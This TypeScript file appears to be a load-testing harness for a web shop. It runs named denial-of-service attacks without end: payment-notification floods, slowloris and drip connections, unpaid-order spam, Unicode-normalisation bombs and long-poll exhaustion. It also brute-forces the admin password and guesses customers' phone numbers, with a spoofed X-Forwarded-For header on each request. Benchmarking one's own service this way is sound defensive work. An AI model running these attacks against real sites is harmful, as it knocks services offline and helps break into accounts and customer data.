// One attacker in a process of its own, as its own load: node --import tsx bench/attacker.ts <attack> <shop's address> <variant>.
// It goes on until it is ended.
import http from "node:http";
import net from "node:net";
import { FORM_HEADERS, multipart, RECEIVER, readForm } from "./orders";

const [name = "", shopUrl = "", variantId = ""] = process.argv.slice(2);
const { hostname, port } = new URL(shopUrl);
const AT_ONCE = 8;
const agent = new http.Agent({ keepAlive: true, maxSockets: AT_ONCE });
const FORWARDED = { "x-forwarded-for": "10.66.6.6" };

type Sending = { method?: string; path: string; headers?: Record<string, string>; body?: string };

/** Sends as fast as the answers come, over a few connections; what fails is sent anew. */
async function hammer(next: () => Sending): Promise<never> {
  const one = async () => {
    for (;;) await send(next()).catch(() => {});
  };
  await Promise.all(Array.from({ length: AT_ONCE }, one));
  throw new Error("an attacker never ends by itself");
}

function send({ method = "POST", path, headers = {}, body = "" }: Sending): Promise<void> {
  return new Promise((resolve, reject) => {
    const length = { "content-length": String(Buffer.byteLength(body)) };
    const request = http.request({ hostname, port, path, method, agent, headers: { ...FORWARDED, ...length, ...headers } }, (answer) => {
      answer.resume().on("end", resolve).on("error", reject);
    });
    request.setTimeout(10_000, () => request.destroy(new Error("no answer"))).on("error", reject);
    request.end(body);
  });
}

/** The names of all of them, for whoever starts this. */
const FORM = { "content-type": "application/x-www-form-urlencoded" };

/** Raw connections that are opened and never finished; one that is closed is opened anew. */
function hold(count: number, begin: string, drip = ""): Promise<never> {
  const open = () => {
    const socket = net.connect(Number(port), hostname, () => socket.write(begin));
    const timer = drip ? setInterval(() => socket.write(drip), 1_000) : null;
    socket
      .on("error", () => {})
      .on("close", () => {
        if (timer) clearInterval(timer);
        setTimeout(open, 200);
      });
    socket.resume();
  };
  for (let index = 0; index < count; index++) open();
  return new Promise(() => {});
}

const refused = () => `sign=${Math.random()}&sign_type=MD5&out_trade_no=1&notify_data=${"x".repeat(4_000)}`;

/** An order of the attacker's own, whose page may wait for news. */
async function ownOrder(): Promise<{ cookie: string; no: string; version: string }> {
  const url = `${shopUrl}/checkout?buy=${variantId}x1`;
  const hidden = await readForm(url, "idempotencyKey");
  const body = multipart({ ...hidden, ...RECEIVER });
  const placed = await fetch(url, {
    method: "POST",
    redirect: "manual",
    headers: { ...FORM_HEADERS, ...FORWARDED, origin: shopUrl },
    body,
  });
  const cookie = placed.headers
    .getSetCookie()
    .map((one) => one.split(";")[0])
    .join("; ");
  const list = await (await fetch(`${shopUrl}/orders`, { headers: { ...FORWARDED, cookie } })).text();
  const no = /href="\/orders\/(\d+)/.exec(list)?.[1] ?? "";
  const status = await fetch(`${shopUrl}/api/orders/${no}/status`, { headers: { ...FORWARDED, cookie } });
  const { version } = (await status.json()) as { version: string };
  return { cookie, no, version };
}

const ATTACKS: Record<string, () => Promise<never>> = {
  "refused notices without end": () => hammer(() => ({ path: "/api/alipay/notify", headers: FORM, body: refused() })),
  "bodies that are never sent to their end": () =>
    hold(
      200,
      `POST /api/alipay/notify HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 400000\r\n\r\nsign=`,
    ),
  "headers and bodies that drip": () => hold(500, `POST /checkout HTTP/1.1\r\nHost: ${hostname}\r\n`, "X-A: b\r\n"),
  "everything put into unpaid orders": async () => {
    const path = `/checkout?buy=${variantId}x99`;
    const hidden = await readForm(`${shopUrl}${path}`, "idempotencyKey");
    const key = () => Array.from({ length: 43 }, () => "abcdefghij"[Math.floor(Math.random() * 10)]).join("");
    const form = () => multipart({ ...hidden, ...RECEIVER, idempotencyKey: key() });
    return hammer(() => ({ path, headers: { ...FORM_HEADERS, origin: shopUrl }, body: form() }));
  },
  "fields of 5.5 MB that grow when normalised": async () => {
    const path = `/checkout?buy=${variantId}x1`;
    const hidden = await readForm(`${shopUrl}${path}`, "idempotencyKey");
    const body = multipart({ ...hidden, ...RECEIVER, note: "\uFDFA".repeat(1_830_000) });
    return hammer(() => ({ path, headers: { ...FORM_HEADERS, origin: shopUrl }, body }));
  },
  "logins that are slow to normalise": async () => {
    const hidden = await readForm(`${shopUrl}/admin/login`, "password");
    const login = "\u0344".repeat(15_900) + "\u0323".repeat(15_900);
    const body = multipart({ ...hidden, login, password: "guess" });
    return hammer(() => ({ path: "/admin/login", headers: { ...FORM_HEADERS, origin: shopUrl }, body }));
  },
  "guesses at the owner's password": async () => {
    const hidden = await readForm(`${shopUrl}/admin/login`, "password");
    const form = () => multipart({ ...hidden, login: "owner", password: `guess ${Math.random()}` });
    return hammer(() => ({ path: "/admin/login", headers: { ...FORM_HEADERS, origin: shopUrl }, body: form() }));
  },
  "guesses at an order's telephone number": async () => {
    const hidden = await readForm(`${shopUrl}/orders/lookup`, "phone");
    const form = () => multipart({ ...hidden, no: "2026112500000001", phone: `139${String(Math.random()).slice(2, 10)}` });
    return hammer(() => ({ path: "/orders/lookup", headers: { ...FORM_HEADERS, origin: shopUrl }, body: form() }));
  },
  "4,000 pages that wait for news": async () => {
    const { cookie, no, version } = await ownOrder();
    const waiting = `GET /api/orders/${no}/status?version=${version} HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: 10.66.6.6\r\nCookie: ${cookie}\r\n\r\n`;
    return hold(4_000, waiting);
  },
  "pages asked for without end": () => hammer(() => ({ method: "GET", path: `/search?q=${Math.random()}` })),
};

const attack = ATTACKS[name];
if (!attack) throw new Error(`There is no attack "${name}". There are: ${Object.keys(ATTACKS).join(", ")}`);
await attack();
